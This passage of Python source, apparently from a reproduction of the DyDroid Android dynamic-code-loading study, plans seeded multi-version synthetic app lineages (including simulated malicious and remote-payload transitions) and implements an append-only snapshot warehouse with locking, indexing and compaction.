                "dynamic outcome {} -> {}".format(
                    old_outcome or "not-run", new_outcome or "not-run"
                ),
            )
        )

    return diff


def diff_digest(diffs: List[SnapshotDiff]) -> str:
    """Stable fingerprint of a whole diff set (sorted, canonical JSON)."""
    canonical = sorted(
        (diff.to_dict() for diff in diffs),
        key=lambda d: (d["package"], d["old_version"], d["new_version"]),
    )
    raw = json.dumps(canonical, sort_keys=True, separators=(",", ":")).encode("utf-8")
    return hashlib.sha256(raw).hexdigest()


def classify_pair(
    old: Optional[AppAnalysis], new: AppAnalysis
) -> Optional[SnapshotDiff]:
    """Diff helper tolerating a missing predecessor (first version)."""
    if old is None:
        return None
    return diff_analyses(old, new)
