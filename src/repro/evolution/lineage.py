"""Deterministic multi-version app lineages: the corpus gains a time axis.

DyDroid's security story is that DCL lets an app change behavior *after*
review; modeling that requires the same package at several version codes.
A lineage is planned in one seeded pass per app (``Random("lineage-{seed}-
{index}")``): version 1 is the plain corpus blueprint, and every later
version applies zero or more mutations drawn from the paper's observed
drift patterns:

- ``add_dcl``       -- an update gains a DCL call site (new plugin SDK);
- ``drop_dcl``      -- an update removes its DCL machinery;
- ``swap_sdk``      -- the bundled analytics SDK changes vendor, so exactly
  one payload digest churns while every other payload stays byte-identical;
- ``go_remote``     -- a locally bundled payload becomes a remote fetch
  (the provenance transition the differ flags as suspicious);
- ``turn_malicious``-- the app turns malicious at version *k*, governed by
  a per-version Bernoulli hazard; once malicious, always malicious.

Version stamps are monotone: ``version_code`` strictly increases and
``release_time_ms`` moves forward by a seeded number of days per release.
Because :meth:`CorpusGenerator.build_record` keys its assembly rng by
``(seed, index)`` only, an unmutated blueprint re-emits byte-identical
payload bytes at every version -- which is what lets a shared verdict
store analyze each distinct payload exactly once across a whole lineage.
"""

from __future__ import annotations

import copy
import random
from dataclasses import dataclass, field
from typing import List, Optional, Tuple

from repro.corpus.generator import AppBlueprint, AppRecord, CorpusGenerator
from repro.corpus.profiles import CorpusProfile
from repro.corpus.sdks import ANALYTICS_VENDORS
from repro.static_analysis.malware import families

__all__ = [
    "AppLineage",
    "AppVersion",
    "LineageSpec",
    "build_version_record",
    "plan_lineages",
]

#: one release every 1..13 weeks (seeded per step); keeps release times
#: strictly monotone per package.
_MIN_RELEASE_GAP_DAYS = 7
_MAX_RELEASE_GAP_DAYS = 91
_DAY_MS = 86_400_000


@dataclass(frozen=True)
class LineageSpec:
    """Mutation probabilities applied independently at each version step."""

    p_add_dcl: float = 0.15
    p_drop_dcl: float = 0.08
    p_swap_sdk: float = 0.20
    p_go_remote: float = 0.10
    #: per-version probability that a so-far-benign app turns malicious
    #: (the "turn malicious at version k" hazard).
    malicious_hazard: float = 0.05
    # -- ecosystem-pack churn (only drawn for apps planted with the
    # matching role, so paper-profile lineages consume zero extra rng) --
    #: plugin host ships a new hot-update pack generation.
    p_hot_update: float = 0.45
    #: split-APK app re-emits its feature/config splits.
    p_split_update: float = 0.40
    #: staged downloader rotates its delivery-chain payloads.
    p_stage_update: float = 0.35
    #: self-debloating app reshelves its on-demand features (high churn:
    #: shelving is routine maintenance, not a rare event).
    p_reshelve: float = 0.50


@dataclass(frozen=True)
class AppVersion:
    """One planned version of one app: blueprint + monotone stamps."""

    version: int                #: 1-based ordinal within the lineage
    version_code: int           #: strictly increasing store version code
    release_offset_ms: int      #: added to the base (v1) release time
    mutations: Tuple[str, ...]  #: mutation names applied at this step
    blueprint: AppBlueprint


@dataclass
class AppLineage:
    """Every planned version of one package, oldest first."""

    index: int
    package: str
    versions: List[AppVersion] = field(default_factory=list)

    def at(self, version: int) -> AppVersion:
        for app_version in self.versions:
            if app_version.version == version:
                return app_version
        raise KeyError(
            "{} has no version {} (has {})".format(
                self.package, version, [v.version for v in self.versions]
            )
        )

    @property
    def turned_malicious_at(self) -> Optional[int]:
        """Version ordinal of the first malicious version, if any."""
        for app_version in self.versions:
            if "turn_malicious" in app_version.mutations:
                return app_version.version
        return None


def _can_turn_malicious(blueprint: AppBlueprint) -> bool:
    # Packed apps take a different assembly path (no malware stubs) and
    # anti-decompilation defeats the static side entirely; neither makes
    # a useful planted escalation.
    return (
        blueprint.malware_family is None
        and not blueprint.is_packed
        and not blueprint.anti_decompilation
    )


def _uses_generic_sdk(blueprint: AppBlueprint) -> bool:
    """Mirror of the generator's ``needs_generic_sdk`` assembly guard."""
    return (
        blueprint.dex_dcl_reachable
        and blueprint.dex_entity in ("third", "both")
        and not blueprint.uses_google_ads
        and not blueprint.is_baidu_remote
        and blueprint.malware_family
        not in (families.SWISS_CODE_MONKEYS, families.ADWARE_AIRPUSH)
    )


def _exercisable(blueprint: AppBlueprint) -> bool:
    return not (blueprint.anti_repackaging or blueprint.no_activity or blueprint.crashy)


def _mutate(
    rng: random.Random, blueprint: AppBlueprint, spec: LineageSpec
) -> Tuple[AppBlueprint, Tuple[str, ...]]:
    """One version step: apply each eligible mutation independently."""
    mutated = copy.deepcopy(blueprint)
    applied: List[str] = []

    if _can_turn_malicious(mutated) and rng.random() < spec.malicious_hazard:
        # Ungated (empty EnvGates) launch-triggered load: the escalation
        # must intercept deterministically, like the planted carriers.
        mutated.malware_family = families.SWISS_CODE_MONKEYS
        mutated.malware_gates = type(mutated.malware_gates)()
        mutated.has_dex_dcl_code = True
        mutated.dex_dcl_reachable = True
        mutated.dex_entity = mutated.dex_entity or "third"
        mutated.anti_repackaging = False
        mutated.no_activity = False
        mutated.crashy = False
        mutated.dcl_trigger = "launch"
        applied.append("turn_malicious")

    if (
        not mutated.has_dex_dcl_code
        and not mutated.is_packed
        and rng.random() < spec.p_add_dcl
    ):
        mutated.has_dex_dcl_code = True
        if _exercisable(mutated):
            mutated.dex_dcl_reachable = True
            mutated.dex_entity = mutated.dex_entity or "third"
        applied.append("add_dcl")

    droppable = (
        mutated.has_dex_dcl_code
        and "add_dcl" not in applied
        and mutated.malware_family is None
        and not mutated.is_baidu_remote
        and not mutated.is_packed
        and not mutated.uses_google_ads
        and mutated.vuln_kind is None
    )
    if droppable and rng.random() < spec.p_drop_dcl:
        mutated.has_dex_dcl_code = False
        mutated.dex_dcl_reachable = False
        mutated.dex_entity = None
        mutated.sdk_vendor = None
        mutated.leak_types = ()
        applied.append("drop_dcl")

    if _uses_generic_sdk(mutated) and rng.random() < spec.p_swap_sdk:
        candidates = [v for v in ANALYTICS_VENDORS if v != mutated.sdk_vendor]
        mutated.sdk_vendor = rng.choice(candidates)
        applied.append("swap_sdk")

    if (
        mutated.dex_dcl_reachable
        and not mutated.is_baidu_remote
        and not mutated.is_packed
        and mutated.malware_family is None
        and rng.random() < spec.p_go_remote
    ):
        mutated.is_baidu_remote = True
        if mutated.dex_entity == "own":
            mutated.dex_entity = "third"
        applied.append("go_remote")

    # Ecosystem-pack churn: bumping a generation counter changes the
    # planted payload bytes (new digests) while the host role stays fixed.
    # Guards come first so lineages without the role draw nothing.
    if mutated.is_plugin_host and rng.random() < spec.p_hot_update:
        mutated.plugin_generation += 1
        applied.append("hot_update")

    if mutated.is_split_apk and rng.random() < spec.p_split_update:
        mutated.split_generation += 1
        applied.append("split_update")

    if mutated.is_staged_downloader and rng.random() < spec.p_stage_update:
        mutated.stage_generation += 1
        applied.append("stage_update")

    if mutated.is_self_debloating and rng.random() < spec.p_reshelve:
        mutated.shelf_generation += 1
        applied.append("reshelve")

    return mutated, tuple(applied)


def plan_lineages(
    n_apps: int,
    n_versions: int,
    seed: int = 0,
    profile: Optional[CorpusProfile] = None,
    spec: Optional[LineageSpec] = None,
) -> List[AppLineage]:
    """Plan ``n_versions`` of every app in the ``(seed, n_apps)`` corpus.

    Pure function of its arguments: two calls with the same inputs plan
    identical lineages, and building any planned version (in any process)
    yields byte-identical APKs -- the farm-worker rematerialization
    contract extended with a version axis.
    """
    if n_versions < 1:
        raise ValueError("n_versions must be >= 1")
    spec = spec or LineageSpec()
    generator = CorpusGenerator(profile=profile, seed=seed)
    blueprints = generator.sample_blueprints(n_apps)

    lineages: List[AppLineage] = []
    for blueprint in blueprints:
        rng = random.Random("lineage-{}-{}".format(seed, blueprint.index))
        base = copy.deepcopy(blueprint)
        if _uses_generic_sdk(base):
            # Pin the analytics vendor from version 1 so a later SDK swap
            # is guaranteed to actually change vendors (the swap draws
            # from the complement of the current pin).
            base.sdk_vendor = rng.choice(ANALYTICS_VENDORS)
        lineage = AppLineage(index=blueprint.index, package=blueprint.package)
        version_code = 1 + rng.randint(0, 3)
        lineage.versions.append(
            AppVersion(
                version=1,
                version_code=version_code,
                release_offset_ms=0,
                mutations=(),
                blueprint=base,
            )
        )
        current = base
        release_offset_ms = 0
        for ordinal in range(2, n_versions + 1):
            current, applied = _mutate(rng, current, spec)
            version_code += 1 + rng.randint(0, 4)
            release_offset_ms += (
                rng.randint(_MIN_RELEASE_GAP_DAYS, _MAX_RELEASE_GAP_DAYS) * _DAY_MS
            )
            lineage.versions.append(
                AppVersion(
                    version=ordinal,
                    version_code=version_code,
                    release_offset_ms=release_offset_ms,
                    mutations=applied,
                    blueprint=current,
                )
            )
        lineages.append(lineage)
    return lineages


def build_version_record(
    generator: CorpusGenerator, app_version: AppVersion
) -> AppRecord:
    """Assemble the APK for one planned version (any process, any order)."""
    return generator.build_record(
        app_version.blueprint,
        version_code=app_version.version_code,
        release_offset_ms=app_version.release_offset_ms,
    )
