"""The snapshot warehouse: per-version analyses, durable and diffable.

An evolution run produces one :class:`~repro.core.report.AppAnalysis` per
``(package, version_code)``; the warehouse is their append-only home,
borrowing the concurrency discipline of :mod:`repro.store.verdicts`:

- appends take an exclusive ``fcntl.flock`` around one buffered
  write+flush of a complete line (``O_APPEND``, so lines land atomically);
- a crash-torn final line is sealed with a newline on open (under the
  exclusive lock, a missing final newline can only be crash debris) and
  then skipped as an ordinary corrupt line;
- reads happen under a shared lock and only through the last complete
  newline.

File layout (one JSON document per line)::

    {"kind": "header", "version": 1, "serialization": 1}
    {"kind": "snapshot", "package": "...", "version_code": 7, "analysis": {...}}
    {"kind": "index", "entries": {"<package>@<version_code>": <byte offset>, ...}}

The trailing ``index`` line is the in-file index: :meth:`seal` (also run
by ``close``) appends one mapping every snapshot key to the byte offset
of its line.  A reader whose *last complete line* is an index trusts it
and skips the full scan; any append after that invalidates the fast path
simply by no longer being the last line, in which case opening falls back
to a full scan (stale interior index lines are ignored).  Either way the
in-memory index holds offsets only -- ``get`` seeks and parses a single
line, so opening a multi-gigabyte warehouse never materializes every
snapshot.

The warehouse also keeps the same sqlite sidecar the verdict store uses
(:mod:`repro.store.index`, ``<warehouse>.idx``), which covers exactly the
case the trailing index cannot: a writer that died *without* sealing.
The sidecar's watermark advances with every append, so reopening a
crashed warehouse scans only the unindexed tail instead of the whole
file -- and when the watermark reaches EOF the open reads nothing but the
header line.  The sidecar is derived data; losing or corrupting it costs
one full scan (the trailing-index path remains the portable, sqlite-free
fallback).

Both indexes, and :func:`compact_warehouse`, keep the first-wins rule:
snapshots are immutable, appending a key that already exists is a no-op,
which makes warm re-runs idempotent -- the file, and therefore ``repro
evolve diff`` output, is byte-stable across repeats.  Compaction is the
GC for what append-only leaves behind (duplicate snapshots, stale
interior index lines, corrupt debris); like the verdict store's it
rewrites in place under the exclusive lock and is offline-only.
"""

from __future__ import annotations

import json
import os
import threading
from contextlib import contextmanager
from pathlib import Path
from typing import Dict, Iterator, List, Optional, Tuple, Union

from repro.core.report import SERIALIZATION_VERSION, AppAnalysis
from repro.store.index import (
    SQLITE_ERRORS,
    StoreIndex,
    index_path,
    sqlite_available,
)

try:  # POSIX only; elsewhere the warehouse degrades to thread-safety.
    import fcntl
except ImportError:  # pragma: no cover - non-POSIX fallback
    fcntl = None

__all__ = [
    "WAREHOUSE_VERSION",
    "SnapshotWarehouse",
    "WarehouseError",
    "compact_warehouse",
]

WAREHOUSE_VERSION = 1


def _warehouse_fingerprint() -> str:
    """What the sidecar must have been built against to be trusted."""
    return "warehouse:v{}:s{}".format(WAREHOUSE_VERSION, SERIALIZATION_VERSION)


class WarehouseError(ValueError):
    """The warehouse file is unusable or from an incompatible writer."""


@contextmanager
def _file_lock(handle, exclusive: bool) -> Iterator[None]:
    """Advisory whole-file lock; a no-op where ``fcntl`` is unavailable."""
    if fcntl is None:  # pragma: no cover - non-POSIX fallback
        yield
        return
    fcntl.flock(handle.fileno(), fcntl.LOCK_EX if exclusive else fcntl.LOCK_SH)
    try:
        yield
    finally:
        fcntl.flock(handle.fileno(), fcntl.LOCK_UN)


def _key(package: str, version_code: int) -> str:
    return "{}@{}".format(package, version_code)


class SnapshotWarehouse:
    """Append-only store of per-version analyses keyed by (package, version)."""

    def __init__(self, path: Union[str, Path], index: bool = True) -> None:
        self.path = Path(path)
        #: key -> byte offset of the snapshot line.
        self._index: Dict[str, int] = {}
        self._header_checked = False
        self.corrupt_lines = 0
        #: True when the last open used the trailing index line instead of
        #: a full scan (exposed for tests and ``evolve report`` curiosity).
        self.fast_opened = False
        #: True when the last open came from the sqlite sidecar (possibly
        #: plus a tail scan) instead of reading the whole file.
        self.sidecar_opened = False
        #: how many times an open fell all the way back to scanning every
        #: line of the log; warm opens (sidecar or trailing index intact)
        #: must keep this at zero -- the regression tests assert on it.
        self.full_scans = 0
        self._sealed = False
        self._sidecar: Optional[StoreIndex] = None
        self._want_sidecar = bool(index) and sqlite_available()
        #: file size as of our last write/scan; lets ``seal`` notice (and
        #: fold in) snapshots a sibling writer appended meanwhile, so the
        #: trailing index never drops someone else's data.
        self._end = 0
        self._mutex = threading.Lock()
        self.path.parent.mkdir(parents=True, exist_ok=True)
        self._handle = self.path.open("a+b")
        with self._mutex:
            with _file_lock(self._handle, exclusive=True):
                self._handle.seek(0, os.SEEK_END)
                size = self._handle.tell()
                if size == 0:
                    self._write_line(
                        {
                            "kind": "header",
                            "version": WAREHOUSE_VERSION,
                            "serialization": SERIALIZATION_VERSION,
                        }
                    )
                    self._header_checked = True
                    self._open_sidecar(self._end)
                    self._advance_sidecar([], self._end)
                    return
                self._seal_torn_tail(size)
                self._open_sidecar(size)
                self._load(size)
                self._end = size
        if not self._header_checked:
            raise WarehouseError("{}: no warehouse header found".format(self.path))

    # -- open-time scanning ------------------------------------------------------

    def _seal_torn_tail(self, size: int) -> None:
        """Terminate a crash-torn final line (exclusive lock held)."""
        self._handle.seek(size - 1)
        if self._handle.read(1) != b"\n":
            self._handle.write(b"\n")
            self._handle.flush()

    def _load(self, size: int) -> None:
        """Build the key->offset index.

        Fastest first: the sqlite sidecar (reads only the header line plus
        the tail past its watermark -- the only path that stays cheap after
        an *unsealed* crash), then the trailing in-file index (reads the
        whole file but parses two lines), then the full scan, which seeds
        the sidecar for the next open.
        """
        if self._load_from_sidecar(size):
            return
        self._handle.seek(0)
        data = self._handle.read(size)
        cut = data.rfind(b"\n")
        if cut < 0:
            raise WarehouseError("{}: unreadable warehouse".format(self.path))
        last_start = data.rfind(b"\n", 0, cut) + 1
        last_line = data[last_start : cut + 1]
        entry = self._parse(last_line)
        if entry and entry.get("kind") == "index" and isinstance(entry.get("entries"), dict):
            # Fast path: the writer sealed after its last append, so the
            # trailing index is complete.  The header still gets checked.
            first = self._parse(data[: data.find(b"\n") + 1])
            if first:
                self._dispatch_header(first)
            self._index = {str(k): int(v) for k, v in entry["entries"].items()}
            self.fast_opened = True
            # The trailing index already covers everything: read-only opens
            # must not grow the file with another identical index on close.
            self._sealed = True
            self._rebuild_sidecar(size)
            return
        self.full_scans += 1
        rows = self._scan_range(data, 0)
        if self._sidecar is not None:
            self._advance_sidecar(rows, size)

    def _scan_range(self, data: bytes, base: int) -> List[Tuple[str, str, int]]:
        """Fold complete lines of ``data`` (file offset ``base``) into the
        in-memory index; returns the sidecar rows for first-win inserts."""
        rows: List[Tuple[str, str, int]] = []
        offset = base
        for raw in data.splitlines(keepends=True):
            # A final line without its newline was sealed by open (the
            # newline sits just past ``data``); parse it like any other.
            entry = self._parse(raw)
            if entry is None:
                self.corrupt_lines += 1
            else:
                kind = entry.get("kind")
                if kind == "header":
                    self._dispatch_header(entry)
                elif (
                    kind == "snapshot"
                    and "package" in entry
                    and "version_code" in entry
                ):
                    key = _key(entry["package"], entry["version_code"])
                    # first write wins: duplicates are later, identical noise
                    if key not in self._index:
                        self._index[key] = offset
                        rows.append(("snapshot", key, offset))
                elif kind == "index":
                    pass  # stale interior index from an earlier seal
                else:
                    self.corrupt_lines += 1
            offset += len(raw)
        return rows

    # -- the sqlite sidecar ------------------------------------------------------

    def _open_sidecar(self, size: int) -> None:
        if not self._want_sidecar:
            return
        try:
            self._sidecar = StoreIndex(
                index_path(self.path), _warehouse_fingerprint(), size
            )
        except SQLITE_ERRORS:
            self._sidecar = None

    def _load_from_sidecar(self, size: int) -> bool:
        """Open from the sidecar watermark; False falls back to file paths."""
        if self._sidecar is None:
            return False
        try:
            watermark = self._sidecar.watermark()
            if watermark <= 0:
                return False
            entries = self._sidecar.entries("snapshot")
        except SQLITE_ERRORS:
            self._drop_sidecar()
            return False
        # The header still gets checked -- the sidecar fingerprint pins the
        # format versions, but not that this file is a warehouse at all.
        self._handle.seek(0)
        first = self._parse(self._handle.readline())
        if not first:
            return False
        self._dispatch_header(first)
        self._index = {key: offset for key, offset in entries}
        if watermark < size:
            self._handle.seek(watermark)
            rows = self._scan_range(self._handle.read(size - watermark), watermark)
            self._advance_sidecar(rows, size)
        else:
            # Watermark at EOF: nothing but the header line was read.  Do
            # not grow the file with a trailing index on a read-only cycle.
            self.fast_opened = True
            self._sealed = True
        self.sidecar_opened = True
        return True

    def _rebuild_sidecar(self, watermark: int) -> None:
        if self._sidecar is None:
            return
        try:
            self._sidecar.rebuild(
                [("snapshot", key, offset) for key, offset in self._index.items()],
                watermark,
            )
        except SQLITE_ERRORS:
            self._drop_sidecar()

    def _advance_sidecar(self, rows, watermark: int) -> None:
        if self._sidecar is None:
            return
        try:
            self._sidecar.advance(rows, watermark)
        except SQLITE_ERRORS:
            self._drop_sidecar()

    def _drop_sidecar(self) -> None:
        """Sqlite failed: run without the sidecar (it is only a cache)."""
        if self._sidecar is not None:
            try:
                self._sidecar.close()
            except SQLITE_ERRORS:  # pragma: no cover - close rarely fails
                pass
            self._sidecar = None

    def _parse(self, raw: bytes) -> Optional[Dict[str, object]]:
        try:
            entry = json.loads(raw)
        except json.JSONDecodeError:
            return None
        return entry if isinstance(entry, dict) else None

    def _dispatch_header(self, entry: Dict[str, object]) -> None:
        if entry.get("kind") != "header":
            raise WarehouseError("{}: first line is not a header".format(self.path))
        if entry.get("version") != WAREHOUSE_VERSION:
            raise WarehouseError(
                "{}: unsupported warehouse version {}".format(
                    self.path, entry.get("version")
                )
            )
        if entry.get("serialization") != SERIALIZATION_VERSION:
            raise WarehouseError(
                "{}: snapshots use report serialization {}, this build "
                "reads {}".format(
                    self.path, entry.get("serialization"), SERIALIZATION_VERSION
                )
            )
        self._header_checked = True

    # -- appends -----------------------------------------------------------------

    def _write_line(self, entry: Dict[str, object]) -> int:
        """Write one line at EOF; returns the offset it landed at."""
        self._handle.seek(0, os.SEEK_END)
        offset = self._handle.tell()
        self._handle.write(json.dumps(entry, sort_keys=True).encode("utf-8") + b"\n")
        self._handle.flush()
        self._end = self._handle.tell()
        return offset

    def _fold_tail(self) -> None:
        """Index snapshots a sibling appended past our horizon (lock held)."""
        self._handle.seek(0, os.SEEK_END)
        size = self._handle.tell()
        if size <= self._end:
            return
        self._handle.seek(self._end)
        data = self._handle.read(size - self._end)
        torn = not data.endswith(b"\n")
        if torn:
            # Exclusive lock held: a missing final newline is crash debris
            # from a dead sibling.  Seal it so whatever we write next
            # cannot concatenate onto it.
            self._handle.write(b"\n")
            self._handle.flush()
        offset = self._end
        rows: List[Tuple[str, str, int]] = []
        for raw in data.splitlines(keepends=True):
            if raw.endswith(b"\n"):
                entry = self._parse(raw)
                if (
                    entry
                    and entry.get("kind") == "snapshot"
                    and "package" in entry
                    and "version_code" in entry
                ):
                    key = _key(entry["package"], entry["version_code"])
                    if key not in self._index:
                        self._index[key] = offset
                        rows.append(("snapshot", key, offset))
            offset += len(raw)
        self._end = offset + (1 if torn else 0)
        self._advance_sidecar(rows, self._end)

    def append(self, analysis: Union[AppAnalysis, Dict[str, object]]) -> bool:
        """Store one snapshot; returns False if its key already exists."""
        if isinstance(analysis, AppAnalysis):
            analysis = analysis.to_dict()
        package = analysis["package"]
        version_code = int(analysis.get("metadata", {}).get("version_code", 1))
        key = _key(package, version_code)
        with self._mutex:
            if key in self._index:
                return False
            with _file_lock(self._handle, exclusive=True):
                # Catch up on sibling appends first: _write_line advances
                # our horizon past them, and one may even hold this key
                # (first write wins across processes too).
                self._fold_tail()
                if key in self._index:
                    return False
                offset = self._write_line(
                    {
                        "kind": "snapshot",
                        "package": package,
                        "version_code": version_code,
                        "analysis": analysis,
                    }
                )
            self._index[key] = offset
            self._advance_sidecar([("snapshot", key, offset)], self._end)
            self._sealed = False
        return True

    def seal(self) -> None:
        """Append the in-file index so the next open can skip the scan."""
        with self._mutex:
            if self._sealed or self._handle.closed:
                return
            with _file_lock(self._handle, exclusive=True):
                self._fold_tail()
                self._write_line({"kind": "index", "entries": dict(self._index)})
            # The index line holds no snapshots; the watermark just moves
            # past it so the next open starts at EOF.
            self._advance_sidecar([], self._end)
            self._sealed = True

    # -- reads -------------------------------------------------------------------

    def get(self, package: str, version_code: int) -> Dict[str, object]:
        """The serialized analysis dict stored for one snapshot key."""
        key = _key(package, version_code)
        with self._mutex:
            if key not in self._index:
                raise KeyError(key)
            offset = self._index[key]
            with _file_lock(self._handle, exclusive=False):
                self._handle.seek(offset)
                raw = self._handle.readline()
        entry = self._parse(raw)
        if not entry or entry.get("kind") != "snapshot":
            raise WarehouseError(
                "{}: offset {} for {} does not hold a snapshot".format(
                    self.path, offset, key
                )
            )
        return entry["analysis"]

    def get_analysis(self, package: str, version_code: int) -> AppAnalysis:
        return AppAnalysis.from_dict(self.get(package, version_code))

    def __contains__(self, key: Tuple[str, int]) -> bool:
        package, version_code = key
        with self._mutex:
            return _key(package, version_code) in self._index

    def __len__(self) -> int:
        with self._mutex:
            return len(self._index)

    def packages(self) -> List[str]:
        with self._mutex:
            return sorted({key.rsplit("@", 1)[0] for key in self._index})

    def versions(self, package: str) -> List[int]:
        """Stored version codes for one package, ascending."""
        prefix = package + "@"
        with self._mutex:
            return sorted(
                int(key.rsplit("@", 1)[1])
                for key in self._index
                if key.startswith(prefix)
            )

    def counts(self) -> Dict[str, int]:
        """Stored versions per package, answered by the sqlite sidecar.

        The sidecar carries every snapshot key, so warm readers get the
        per-package tally without touching the log file; when sqlite is
        unavailable (or mid-failure) the in-memory index answers instead.
        """
        with self._mutex:
            keys: Optional[List[str]] = None
            if self._sidecar is not None:
                try:
                    keys = [key for key, _ in self._sidecar.entries("snapshot")]
                except SQLITE_ERRORS:
                    self._drop_sidecar()
            if keys is None:
                keys = list(self._index)
        table: Dict[str, int] = {}
        for key in keys:
            package = key.rsplit("@", 1)[0]
            table[package] = table.get(package, 0) + 1
        return table

    # -- lifecycle ---------------------------------------------------------------

    def close(self) -> None:
        self.seal()
        with self._mutex:
            self._drop_sidecar()
            if not self._handle.closed:
                self._handle.close()

    def __enter__(self) -> "SnapshotWarehouse":
        return self

    def __exit__(self, *exc_info) -> None:
        self.close()


# -- compaction (``repro store compact``) ------------------------------------------


def compact_warehouse(path: Union[str, Path]) -> Dict[str, int]:
    """Garbage-collect a warehouse file in place; rebuild both indexes.

    Drops duplicate snapshot keys (keeping the *first*, matching the
    fold rule), every stale interior ``index`` line left by earlier
    seals, corrupt lines, and a crash-torn tail, then rewrites the
    surviving snapshot lines byte-identically and appends one fresh
    trailing index -- so ``get`` answers exactly as before, from a
    smaller file that fast-opens with or without sqlite.  Same offline
    contract as :func:`repro.store.verdicts.compact_store`: the rewrite
    is seek+truncate under the exclusive flock, so no live readers or
    writers may share the path.

    Returns ``{"snapshots", "dropped_duplicates", "dropped_corrupt",
    "dropped_index_lines", "bytes_before", "bytes_after"}``.
    """
    path = Path(path)
    if not path.exists():
        raise WarehouseError("{}: no such warehouse".format(path))
    with path.open("r+b") as handle:
        with _file_lock(handle, exclusive=True):
            data = handle.read()
            if not data:
                raise WarehouseError("{}: no warehouse header found".format(path))
            lines = data.splitlines(keepends=True)
            dropped_corrupt = 0
            if lines and not lines[-1].endswith(b"\n"):
                dropped_corrupt += 1  # crash-torn tail
                lines = lines[:-1]
            if not lines:
                raise WarehouseError("{}: no warehouse header found".format(path))
            try:
                header = json.loads(lines[0])
            except json.JSONDecodeError:
                header = None
            if not isinstance(header, dict) or header.get("kind") != "header":
                raise WarehouseError("{}: no warehouse header found".format(path))
            if header.get("version") != WAREHOUSE_VERSION:
                raise WarehouseError(
                    "{}: unsupported warehouse version {}".format(
                        path, header.get("version")
                    )
                )
            if header.get("serialization") != SERIALIZATION_VERSION:
                raise WarehouseError(
                    "{}: snapshots use report serialization {}, this build "
                    "reads {}".format(
                        path, header.get("serialization"), SERIALIZATION_VERSION
                    )
                )
            kept = [lines[0]]
            index: Dict[str, int] = {}
            dropped_duplicates = 0
            dropped_index_lines = 0
            offset = len(lines[0])
            for raw in lines[1:]:
                try:
                    entry = json.loads(raw)
                except json.JSONDecodeError:
                    dropped_corrupt += 1
                    continue
                if not isinstance(entry, dict):
                    dropped_corrupt += 1
                    continue
                kind = entry.get("kind")
                if kind == "index":
                    dropped_index_lines += 1
                    continue
                if (
                    kind != "snapshot"
                    or "package" not in entry
                    or "version_code" not in entry
                ):
                    dropped_corrupt += 1
                    continue
                key = _key(entry["package"], entry["version_code"])
                if key in index:
                    dropped_duplicates += 1
                    continue
                index[key] = offset
                kept.append(raw)
                offset += len(raw)
            kept.append(
                json.dumps(
                    {"kind": "index", "entries": index}, sort_keys=True
                ).encode("utf-8")
                + b"\n"
            )
            compacted = b"".join(kept)
            if compacted != data:
                handle.seek(0)
                handle.write(compacted)
                handle.truncate(len(compacted))
                handle.flush()
            if sqlite_available():
                try:
                    sidecar = StoreIndex(
                        index_path(path), _warehouse_fingerprint(), len(compacted)
                    )
                    sidecar.rebuild(
                        [("snapshot", key, off) for key, off in index.items()],
                        len(compacted),
                    )
                    sidecar.close()
                except SQLITE_ERRORS:  # pragma: no cover - index is derived data
                    pass  # a stale sidecar self-heals on the next open
    return {
        "snapshots": len(index),
        "dropped_duplicates": dropped_duplicates,
        "dropped_corrupt": dropped_corrupt,
        "dropped_index_lines": dropped_index_lines,
        "bytes_before": len(data),
        "bytes_after": len(compacted),
    }
