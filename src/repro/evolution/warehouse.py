"""The snapshot warehouse: per-version analyses, durable and diffable.

An evolution run produces one :class:`~repro.core.report.AppAnalysis` per
``(package, version_code)``; the warehouse is their append-only home,
borrowing the concurrency discipline of :mod:`repro.store.verdicts`:

- appends take an exclusive ``fcntl.flock`` around one buffered
  write+flush of a complete line (``O_APPEND``, so lines land atomically);
- a crash-torn final line is sealed with a newline on open (under the
  exclusive lock, a missing final newline can only be crash debris) and
  then skipped as an ordinary corrupt line;
- reads happen under a shared lock and only through the last complete
  newline.

File layout (one JSON document per line)::

    {"kind": "header", "version": 1, "serialization": 1}
    {"kind": "snapshot", "package": "...", "version_code": 7, "analysis": {...}}
    {"kind": "index", "entries": {"<package>@<version_code>": <byte offset>, ...}}

The trailing ``index`` line is the in-file index: :meth:`seal` (also run
by ``close``) appends one mapping every snapshot key to the byte offset
of its line.  A reader whose *last complete line* is an index trusts it
and skips the full scan; any append after that invalidates the fast path
simply by no longer being the last line, in which case opening falls back
to a full scan (stale interior index lines are ignored).  Either way the
in-memory index holds offsets only -- ``get`` seeks and parses a single
line, so opening a multi-gigabyte warehouse never materializes every
snapshot.

Snapshots are immutable: appending a key that already exists is a no-op
(first write wins), which makes warm re-runs idempotent -- the file, and
therefore ``repro evolve diff`` output, is byte-stable across repeats.
"""

from __future__ import annotations

import json
import os
import threading
from contextlib import contextmanager
from pathlib import Path
from typing import Dict, Iterator, List, Optional, Tuple, Union

from repro.core.report import SERIALIZATION_VERSION, AppAnalysis

try:  # POSIX only; elsewhere the warehouse degrades to thread-safety.
    import fcntl
except ImportError:  # pragma: no cover - non-POSIX fallback
    fcntl = None

__all__ = ["WAREHOUSE_VERSION", "SnapshotWarehouse", "WarehouseError"]

WAREHOUSE_VERSION = 1


class WarehouseError(ValueError):
    """The warehouse file is unusable or from an incompatible writer."""


@contextmanager
def _file_lock(handle, exclusive: bool) -> Iterator[None]:
    """Advisory whole-file lock; a no-op where ``fcntl`` is unavailable."""
    if fcntl is None:  # pragma: no cover - non-POSIX fallback
        yield
        return
    fcntl.flock(handle.fileno(), fcntl.LOCK_EX if exclusive else fcntl.LOCK_SH)
    try:
        yield
    finally:
        fcntl.flock(handle.fileno(), fcntl.LOCK_UN)


def _key(package: str, version_code: int) -> str:
    return "{}@{}".format(package, version_code)


class SnapshotWarehouse:
    """Append-only store of per-version analyses keyed by (package, version)."""

    def __init__(self, path: Union[str, Path]) -> None:
        self.path = Path(path)
        #: key -> byte offset of the snapshot line.
        self._index: Dict[str, int] = {}
        self._header_checked = False
        self.corrupt_lines = 0
        #: True when the last open used the trailing index line instead of
        #: a full scan (exposed for tests and ``evolve report`` curiosity).
        self.fast_opened = False
        self._sealed = False
        #: file size as of our last write/scan; lets ``seal`` notice (and
        #: fold in) snapshots a sibling writer appended meanwhile, so the
        #: trailing index never drops someone else's data.
        self._end = 0
        self._mutex = threading.Lock()
        self.path.parent.mkdir(parents=True, exist_ok=True)
        self._handle = self.path.open("a+b")
        with self._mutex:
            with _file_lock(self._handle, exclusive=True):
                self._handle.seek(0, os.SEEK_END)
                size = self._handle.tell()
                if size == 0:
                    self._write_line(
                        {
                            "kind": "header",
                            "version": WAREHOUSE_VERSION,
